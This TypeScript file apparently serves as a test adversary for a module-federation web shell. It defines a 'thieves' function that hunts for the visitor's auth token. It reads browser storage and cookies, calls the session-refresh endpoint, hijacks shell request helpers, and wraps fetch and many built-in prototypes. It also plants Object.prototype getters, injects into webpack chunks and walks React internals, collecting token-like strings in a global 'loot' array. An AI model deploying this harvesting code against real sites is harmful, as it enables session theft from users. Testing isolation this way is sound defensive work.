/** What thieves bring home: what they were trying, and a text in which a token may be. */
type Loot = [theft: string, text: string][]

declare global {
  var loot: Loot | undefined
}

/**
 * Code of a remote that is after the visitor's token; runs in the page, beside the shell, as any remote does. Each
 * theft tries on its own and keeps all that it sees. Written to be turned into text: it uses nothing from outside.
 */
export function thieves(): void {
  const loot: Loot = []
  globalThis.loot = loot
  const native = {
    fetch: globalThis.fetch,
    text: Response.prototype.text,
    apply: Reflect.apply,
    then: Promise.prototype.then,
  }
  let busy = false

  /** Not by the methods of promises that are overheard themselves. */
  function whenCome(promise: Promise<unknown>, then: (value: unknown) => void): void {
    void native.apply(native.then, promise, [then, () => undefined])
  }
  const secretLike = /[\w.-]{43,}/g
  const known = new Set<string>()
  /** What looks like a token or a key; without one's own methods, which are overheard as well. */
  function keepText(theft: string, value: unknown): void {
    if (typeof value !== 'string' || value.length < 43 || value.length > 200_000) return
    for (const found of value.match(secretLike) ?? []) {
      if (known.has(`${theft} ${found}`)) continue
      known.add(`${theft} ${found}`)
      loot[loot.length] = [theft, found]
    }
  }
  /** Everything in a value that is a text, a few levels deep, with the bytes of what is binary. */
  function keep(theft: string, value: unknown, depth = 0): void {
    if (busy || depth > 3) return
    busy = true
    try {
      keepText(theft, value)
      if (value === null || typeof value !== 'object' || value instanceof Node || value instanceof Window) return
      if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) keepText(theft, new TextDecoder().decode(value))
      else if (value instanceof Headers) for (const pair of value) keepText(theft, pair[1])
      else if (value instanceof Response) {
        if (!value.bodyUsed) whenCome(native.apply(native.text, value.clone(), []), (text) => keepText(theft, text))
      } else {
        const inner = Reflect.ownKeys(value).slice(0, 30)
        for (const key of inner) {
          const each: unknown = Reflect.getOwnPropertyDescriptor(value, key)?.value
          busy = false
          keep(theft, each, depth + 1)
          busy = true
        }
      }
    } catch {
      // A thief does not complain.
    } finally {
      busy = false
    }
  }
  function attempt(theft: string, work: () => unknown): void {
    if (!known.has(theft)) loot[loot.length] = [theft, 'tried']
    known.add(theft)
    try {
      const result = work()
      if (result instanceof Promise) whenCome(result, (value) => keep(theft, value))
      else keep(theft, result)
    } catch {
      // As above.
    }
  }
  /** Puts a listener before a method; `hot` are called so often that only texts are looked at. */
  function overhear(theft: string, owner: object, names: string[], hot = false): void {
    for (const name of names)
      attempt(theft, () => {
        const method: unknown = Reflect.get(owner, name)
        if (typeof method !== 'function') return
        const listener = function (this: unknown, ...given: unknown[]): unknown {
          if (hot || busy) {
            keepText(theft, this)
            for (let index = 0; index < given.length; index += 1) keepText(theft, given[index])
            return native.apply(method, this, given)
          }
          keep(theft, this)
          keep(theft, given)
          const result: unknown = new.target ? Reflect.construct(method, given) : native.apply(method, this, given)
          if (result instanceof Promise) whenCome(result, (value) => keep(theft, value))
          else keep(theft, result)
          return result
        }
        listener.prototype = method.prototype
        Reflect.set(owner, name, listener)
      })
  }

  /** Before the visitor signs in and afterwards. */
  function tryAll(): void {
    attempt('what the browser keeps', () => [{ ...localStorage }, { ...sessionStorage }, document.cookie])
    attempt('its databases and caches', async () => [await indexedDB.databases(), await caches.keys()])
    attempt('the page itself', () => document.documentElement.outerHTML)
    attempt('what the server would write into a page', async () => (await native.fetch('/home')).text())
    attempt('a page within the page', () => {
      const frame = document.createElement('iframe')
      frame.src = '/home'
      frame.addEventListener('load', () =>
        keep('a page within the page', frame.contentDocument?.documentElement.outerHTML),
      )
      document.body.append(frame)
    })

    const renew = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }
    attempt('renewing the session', async () => (await native.fetch('/api/auth/refresh', renew)).text())
    attempt('renewing it from another frame', async () => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      return (await frame.contentWindow?.fetch('/api/auth/refresh', renew))?.text()
    })
    attempt('renewing it by an old call', () => {
      const call = new XMLHttpRequest()
      call.open('POST', '/api/auth/refresh')
      call.setRequestHeader('content-type', 'application/json')
      call.addEventListener('load', () => keep('renewing it by an old call', call.responseText))
      call.send('{}')
    })
    attempt('asking the shell to renew it', () => {
      const shared: unknown = Reflect.get(globalThis, '__FEDERATION__')
      const found: { request: (call: object) => Promise<unknown> }[] = []
      const seen = new Set<unknown>()
      const search = (value: unknown, depth: number): void => {
        if (
          depth > 9 ||
          seen.size > 4000 ||
          value === null ||
          (typeof value !== 'object' && typeof value !== 'function') ||
          seen.has(value)
        )
          return
        seen.add(value)
        const give: unknown = Reflect.get(value, 'useShell')
        if (typeof give === 'function') found.push(give())
        const lib: unknown = Reflect.get(value, 'lib')
        if (typeof lib === 'function') search(lib(), depth + 1)
        for (const key of Reflect.ownKeys(value)) search(Reflect.get(value, key), depth + 1)
      }
      search(shared, 0)
      loot.push(['asking the shell to renew it', `shells found: ${found.length}`])
      return Promise.all(
        found.flatMap((shell) =>
          ['json', 'text'].map((answer) =>
            shell.request({ method: 'POST', path: '/auth/refresh', inline: true, answer }).catch(String),
          ),
        ),
      )
    })
  }
  tryAll()
  setInterval(tryAll, 3_000)

  attempt('a page in a window of its own', () => {
    // Not in the window itself.
    if (globalThis.location.hash === '#thief') return
    const other = globalThis.open('/home#thief')
    const look = () => keep('a page in a window of its own', other?.document.documentElement.outerHTML)
    const looking = setInterval(() => attempt('a page in a window of its own', look), 1)
    setTimeout(() => {
      clearInterval(looking)
      other?.close()
    }, 4_000)
  })

  const channel = new BroadcastChannel('ensemble.session')
  channel.addEventListener('message', ({ data }) => keep('other tabs', data))
  channel.postMessage({ type: 'ask' })

  overhear('calls', globalThis, ['fetch', 'Request', 'Headers', 'XMLHttpRequest'])
  overhear('headers', Headers.prototype, ['set', 'append', 'get'])
  overhear('answers', Response.prototype, ['text', 'json', 'arrayBuffer', 'clone'])
  overhear('JSON', JSON, ['parse', 'stringify'])
  overhear(
    'texts',
    String.prototype,
    ['replace', 'split', 'slice', 'startsWith', 'concat', 'trim', 'includes', 'indexOf'],
    true,
  )
  overhear('copies', Object, ['assign', 'entries', 'fromEntries', 'defineProperty', 'setPrototypeOf', 'freeze'], true)
  overhear('reflection', Reflect, ['apply', 'get', 'construct', 'ownKeys'], true)
  overhear('functions', Function.prototype, ['call', 'apply', 'bind'], true)
  overhear('collections', Map.prototype, ['set', 'get'], true)
  overhear('lists', Array.prototype, ['push', 'map', 'join', 'concat'], true)
  overhear('bytes', TextEncoder.prototype, ['encode'])
  overhear('bytes', TextDecoder.prototype, ['decode'])
  overhear('cryptography', SubtleCrypto.prototype, ['encrypt', 'decrypt', 'importKey', 'digest'])
  overhear('promises', Promise.prototype, ['then', 'catch', 'finally'])

  // Where the language and the browser look when an object lacks something.
  const lookedFor = [
    'then',
    'toJSON',
    'headers',
    'token',
    'accessToken',
    'pageKey',
    'signal',
    'duplex',
    'Authorization',
    'authorization',
    'additionalData',
    'iv',
    'credentials',
    'body',
    Symbol.iterator,
    Symbol.toPrimitive,
  ]
  for (const name of lookedFor)
    attempt('what objects inherit', () =>
      Object.defineProperty(Object.prototype, name, {
        configurable: true,
        get(this: unknown) {
          if (this !== Object.prototype) keep('what objects inherit', this)
          return undefined
        },
        set(this: object, value: unknown) {
          keep('what objects inherit', value)
          Reflect.defineProperty(this, name, { value, configurable: true, enumerable: true, writable: true })
        },
      }),
    )
  attempt('what promises inherit', () =>
    Object.defineProperty(Promise.prototype, 'constructor', {
      configurable: true,
      get(this: Promise<unknown>) {
        if (this instanceof Promise) whenCome(this, (value) => keep('what promises inherit', value))
        return Promise
      },
    }),
  )
  attempt('the shell’s own modules', () => {
    const chunks = Object.keys(globalThis).filter((key) => key.startsWith('webpackChunk'))
    for (const name of chunks) {
      const queue: unknown = Reflect.get(globalThis, name)
      if (!Array.isArray(queue)) continue
      queue.push([
        [`thief-${name}`],
        {},
        (modules: { c?: object; m?: object }) => keep('the shell’s own modules', modules.c),
      ])
    }
  })
  const tree = () => {
    const root = document.getElementById('root')
    const key = root && Object.keys(root).find((name) => name.startsWith('__reactContainer'))
    const seen = new Set<unknown>()
    const walk = (value: unknown, depth: number): void => {
      keepText('what React holds', value)
      if (depth > 40 || seen.size > 20_000 || value === null || typeof value !== 'object' || seen.has(value)) return
      if (value instanceof Node || value instanceof Window) return
      seen.add(value)
      for (const each of Object.values(value)) walk(each, depth + 1)
    }
    if (root && key) walk(Reflect.get(root, key), 0)
  }
  attempt('what React holds', tree)
  setInterval(() => attempt('what React holds', tree), 4_000)
}
